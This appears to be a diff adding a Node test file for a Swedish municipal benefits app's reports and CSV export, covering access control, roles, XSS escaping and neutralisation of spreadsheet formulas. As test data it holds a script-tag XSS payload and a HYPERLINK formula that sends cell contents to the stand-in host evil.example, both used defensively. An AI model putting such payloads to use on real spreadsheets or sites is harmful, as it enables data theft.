@@ -1,0 +1,354 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import * as cheerio from 'cheerio';
+import { caseRows, sendApplication } from '../helpers/cases';
+import { linkNamed } from '../helpers/fields';
+import { chosenOption } from '../helpers/get-form';
+import { agentFor, getPage, textOf, type Agent } from '../helpers/http';
+import { createApplicant, loginWithSms } from '../helpers/login';
+import { insertCase, insertEvent } from '../helpers/inbox-rows';
+import { ManualClock } from '../helpers/manual-clock';
+import { staffAgent } from '../helpers/staff';
+import { useTestApp, type TestApp } from '../helpers/test-services';
+
+const DAY = 24 * 60 * 60 * 1000;
+const XSS_NAME = '<script>alert(1)</script>';
+/** Names a spreadsheet would run as formulas (SEC-24), one per character that starts one. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
+  '+46701234567',
+  '-2+3',
+  '@SUM(1;2)',
+  '\tTabb',
+  '\rRetur',
+];
+
+async function audit(testApp: TestApp, response: { headers: Record<string, unknown> }) {
+  return testApp.services.auditLog.ofRequest(String(response.headers['x-request-id']));
+}
+
+/** The cells of a CSV file as a spreadsheet reads them (`;`, quotes, CRLF). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index++) {
+    const char = text.charAt(index);
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ';') {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\r' && text[index + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      index++;
+    } else cell += char;
+  }
+  return rows;
+}
+
+async function download(agent: Agent, path: string) {
+  return agent
+    .get(path)
+    .buffer(true)
+    .parse((response, callback) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk: Buffer) => chunks.push(chunk));
+      response.on('end', () => {
+        callback(null, Buffer.concat(chunks));
+      });
+    });
+}
+
+describe('reports and the CSV export', () => {
+  const clock = new ManualClock('2026-11-24T08:30:00Z');
+  const testApp = useTestApp({ clock });
+
+  it('a report per municipality and period: counts per status and channel, median days to decision, the undecided; one audit row', async () => {
+    const db = testApp().services.database.db;
+    const { agent } = await staffAgent(testApp(), [
+      { municipalityCode: '9901', role: 'caseworker' },
+      { municipalityCode: '9902', role: 'caseworker' },
+    ]);
+    const start = Date.parse('2026-10-05T08:00:00Z');
+    for (const [index, days] of [2, 3, 7].entries()) {
+      const id = await insertCase(db, {
+        period: '2026-10',
+        receivedAt: start + index,
+        status: index === 2 ? 'avslag' : 'beviljad',
+        channel: index === 0 ? 'post' : 'e-tjanst',
+      });
+      await insertEvent(
+        db,
+        id,
+        start + index + days * DAY,
+        'under-handlaggning',
+        index === 2 ? 'avslag' : 'beviljad',
+      );
+    }
+    const waiting = await insertCase(db, {
+      period: '2026-10',
+      receivedAt: start + 10,
+      status: 'komplettering-begard',
+      name: 'Väntande Person',
+    });
+    await insertCase(db, { period: '2026-10', receivedAt: start, municipalityCode: '9902' });
+    await insertCase(db, { period: '2026-09', receivedAt: start });
+
+    const inbox = await getPage(agent, '/handlaggare');
+    const first = await getPage(agent, linkNamed(inbox.$, 'Rapporter').attr('href') ?? '');
+    assert.equal(first.response.status, 200);
+    assert.equal(textOf(first.$, 'h1'), 'Rapporter');
+    assert.equal(chosenOption(first.$, 'Period'), 'november 2026', 'this month to begin with');
+    const { response, $ } = await getPage(
+      agent,
+      '/handlaggare/rapporter?kommun=9901&period=2026-10',
+    );
+    assert.equal(response.status, 200);
+    assert.equal(chosenOption($, 'Kommun'), 'Exempelby kommun');
+    assert.equal(chosenOption($, 'Period'), 'oktober 2026');
+    const main = textOf($, 'main');
+    assert.match(main, /Ansökningar för perioden: 4\./);
+    const table = (id: string) =>
+      $(`table[aria-labelledby="${id}"] tbody tr`)
+        .toArray()
+        .map((row) => textOf(cheerio.load(row), 'tr').replace(/\s+/g, ' '));
+    assert.deepEqual(table('by-status'), ['Avslag 1', 'Beviljad 2', 'Komplettering begärd 1']);
+    assert.deepEqual(table('by-channel'), ['E-tjänst 3', 'Post 1']);
+    assert.match(
+      main,
+      /Hälften av ansökningarna fick beslut inom 3 dagar .*medianen av 3 beslutade ansökningar/,
+    );
+    assert.deepEqual(
+      caseRows($).map((row) => [row.href, row.name]),
+      [[`/handlaggare/arenden/${waiting}`, 'Väntande Person']],
+    );
+    assert.equal(
+      linkNamed($, 'Visa alla inte beslutade för perioden i ärendelistan').attr('href'),
+      '/handlaggare?lista=ej-beslutade&period=2026-10',
+    );
+    assert.deepEqual(
+      (await audit(testApp(), response)).map((event) => [
+        event.action,
+        event.outcome,
+        event.municipality,
+      ]),
+      [['report', 'ok', '9901']],
+    );
+  });
+
+  it('SEC-15 another municipality’s report is the same 404 as a missing page, logged as denied; its export has none of their cases', async () => {
+    const theirs = await sendApplication(testApp(), { municipalityCode: '9901' });
+    const { agent } = await staffAgent(testApp(), [
+      { municipalityCode: '9902', role: 'caseworker' },
+    ]);
+    const refused = await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12');
+    const missing = await getPage(agent, '/handlaggare/finns-inte');
+    assert.equal(refused.response.status, 404);
+    assert.equal(textOf(refused.$, 'main'), textOf(missing.$, 'main'));
+    assert.deepEqual(
+      (await audit(testApp(), refused.response)).map((e) => [e.action, e.outcome, e.municipality]),
+      [['report', 'denied', '9901']],
+    );
+    for (const odd of ['?kommun=9901x', '?kommun=&period=2026-12', '?kommun=9901&kommun=9902']) {
+      const response = await agent.get(`/handlaggare/rapporter${odd}`);
+      assert.equal(response.status, 404, odd);
+    }
+    const csv = await download(agent, '/handlaggare/arenden.csv?lista=ej-beslutade');
+    assert.equal(csv.status, 200);
+    const text = (csv.body as Buffer).toString('utf8');
+    assert.ok(!text.includes(theirs.id));
+    assert.ok(!text.includes('Øvergård'));
+    assert.ok(parseCsv(text.slice(1)).every((row) => row[9] !== theirs.id));
+  });
+
+  it('SEC-24 SEC-20 the export: the list as shown, UTF-8 with BOM, ; and CRLF, quoted, formulas neutralised, scripts as text, one audit row', async () => {
+    const db = testApp().services.database.db;
+    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9902', role: 'readonly' }]);
+    const start = Date.parse('2026-07-01T08:00:00Z');
+    const names = [...FORMULAS, XSS_NAME, 'Åsa "Kalle" Öberg; Jr', 'Rad\nbrytning'];
+    for (const [index, name] of names.entries()) {
+      await insertCase(db, {
+        municipalityCode: '9902',
+        period: '2026-07',
+        receivedAt: start + index * 60_000,
+        name,
+        personnummer: '198501011234',
+        household: 3,
+      });
+    }
+    await insertCase(db, { municipalityCode: '9902', period: '2026-06', receivedAt: start });
+    const list = await getPage(agent, '/handlaggare?lista=ej-beslutade&period=2026-07');
+    const shown = caseRows(list.$);
+    assert.equal(shown.length, names.length);
+    assert.equal(list.$('main script').length, 0);
+    assert.ok(!list.response.text.includes(XSS_NAME));
+    const href = linkNamed(list.$, 'Ladda ner listan som CSV-fil').attr('href') ?? '';
+    assert.equal(href, '/handlaggare/arenden.csv?lista=ej-beslutade&period=2026-07');
+
+    const response = await download(agent, href);
+    assert.equal(response.status, 200);
+    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
+    assert.equal(
+      response.headers['content-disposition'],
+      'attachment; filename=arenden-ej-beslutade-2026-11-24.csv',
+    );
+    assert.equal(response.headers['cache-control'], 'no-store');
+    assert.equal(response.headers['x-content-type-options'], 'nosniff');
+    const bytes = response.body as Buffer;
+    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
+    const text = bytes.toString('utf8').slice(1);
+    assert.ok(text.endsWith('\r\n'));
+    assert.ok(!/[^\r]\n/.test(text.replace('Rad\nbrytning', '')), 'every row ends in CRLF');
+    const rows = parseCsv(text);
+    assert.deepEqual(rows[0], [
+      'Inkommen',
+      'Period',
+      'Sökande',
+      'Personnummer',
+      'Personer',
+      'Status',
+      'Kanal',
+      'Handläggare',
+      'Varning',
+      'Ärende-id',
+    ]);
+    const body = rows.slice(1);
+    assert.equal(body.length, names.length);
+    assert.deepEqual(
+      body.map((row) => row[2]),
+      names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
+      'a formula is shown as text (a leading apostrophe); the rest exactly as written',
+    );
+    for (const row of body) {
+      assert.equal(row.length, 10);
+      assert.equal(row[1], 'juli 2026');
+      assert.equal(row[3], '19850101-XXXX', 'masked as in the list');
+      assert.equal(row[4], '3');
+      assert.equal(row[5], 'Inkommen');
+      assert.ok(!/^[=+\-@\t\r]/.test(row[2] ?? ''), `neutralised: ${row[2] ?? ''}`);
+    }
+    assert.deepEqual(
+      body.map((row) => `/handlaggare/arenden/${row[9] ?? ''}`),
+      shown.map((row) => row.href),
+      'the same cases in the same order as the list',
+    );
+    // The raw file: the XSS payload is plain text in a text/csv file, and a quote is doubled.
+    assert.ok(bytes.toString('utf8').includes(`;${XSS_NAME};`));
+    assert.ok(bytes.toString('utf8').includes('"Åsa ""Kalle"" Öberg; Jr"'));
+    assert.ok(
+      bytes.toString('utf8').includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klicka"")"`),
+    );
+    assert.deepEqual(
+      (await audit(testApp(), response)).map((e) => [e.action, e.outcome, e.role, e.municipality]),
+      [['export', 'ok', 'readonly', '9902']],
+    );
+  });
+
+  it('SEC-16 the read-only role may read reports and export (nothing there changes anything: no form posts)', async () => {
+    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'readonly' }]);
+    const report = await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12');
+    assert.equal(report.response.status, 200);
+    assert.equal(report.$('main form[method="post"]').length, 0);
+    const csv = await download(agent, '/handlaggare/arenden.csv');
+    assert.equal(csv.status, 200);
+    const posted = await agent.post('/handlaggare/rapporter').type('form').send({});
+    assert.ok([403, 404].includes(posted.status), `a POST is refused (${posted.status})`);
+  });
+
+  it('SEC-20 a script in a sent applicant’s name is text in the list, the name search, the report and the CSV', async () => {
+    const sent = await sendApplication(testApp(), {
+      changes: { 'om-dig': { firstName: XSS_NAME } },
+    });
+    const { agent } = await staffAgent(testApp(), [
+      { municipalityCode: '9901', role: 'caseworker' },
+    ]);
+    const { $ } = await getPage(agent, '/handlaggare');
+    const searched = await agent
+      .post('/handlaggare/arenden/sok')
+      .type('form')
+      .send({ sokord: 'script alert', _csrf: String($('input[name=_csrf]').first().val()) });
+    const pages = [
+      { response: searched, $: cheerio.load(searched.text) },
+      await getPage(agent, '/handlaggare?lista=ej-beslutade&period=2026-12'),
+      await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12'),
+    ];
+    for (const page of pages) {
+      assert.equal(page.response.status, 200);
+      assert.equal(page.$('main script').length, 0);
+      assert.ok(!page.response.text.includes(XSS_NAME));
+      const row = caseRows(page.$).find((one) => one.href.endsWith(sent.id));
+      assert.equal(row?.name, `${XSS_NAME} Øvergård`);
+    }
+    const csv = await download(agent, '/handlaggare/arenden.csv?lista=ej-beslutade&period=2026-12');
+    const rows = parseCsv((csv.body as Buffer).toString('utf8').slice(1));
+    assert.ok(rows.some((row) => row[2] === `${XSS_NAME} Øvergård` && row[9] === sent.id));
+  });
+
+  it('SEC-18 the report, the export and the filtered list × every role give the expected status', async () => {
+    const applicant = await createApplicant(testApp().services);
+    const applicantAgent = agentFor(testApp().app);
+    await loginWithSms(applicantAgent, testApp().services, applicant);
+    const callers: [string, Agent][] = [
+      ['anonymous', agentFor(testApp().app)],
+      ['applicant', applicantAgent],
+      [
+        'readonly',
+        (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'readonly' }])).agent,
+      ],
+      [
+        'caseworker',
+        (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'caseworker' }])).agent,
+      ],
+      ['admin', (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'admin' }])).agent],
+      [
+        'otherMunicipality',
+        (await staffAgent(testApp(), [{ municipalityCode: '9902', role: 'caseworker' }])).agent,
+      ],
+    ];
+    const routes: [string, Record<string, number>][] = [
+      [
+        '/handlaggare/rapporter?kommun=9901&period=2026-12',
+        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 404 },
+      ],
+      [
+        '/handlaggare/arenden.csv?lista=fel&sortering=period',
+        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
+      ],
+      [
+        '/handlaggare?lista=fel&period=2026-12&handlaggare=ingen&kanal=post&sortering=nyast',
+        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
+      ],
+      // Odd addresses are the plain list, never an error.
+      [
+        '/handlaggare?lista[]=x&period=2026-13&handlaggare=x&efter=1.2&sortering[a]=b',
+        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
+      ],
+    ];
+    for (const [path, expected] of routes) {
+      for (const [role, agent] of callers) {
+        const response = await agent.get(path);
+        const status = expected[role];
+        if (status === undefined) {
+          assert.equal(response.status, 303, `${path} as ${role}`);
+          assert.match(
+            response.headers.location ?? '',
+            /^\/personal\/logga-in(\?|$)/,
+            `${path} as ${role}`,
+          );
+        } else {
+          assert.equal(response.status, status, `${path} as ${role}`);
+        }
+      }
+    }
+  });
+});
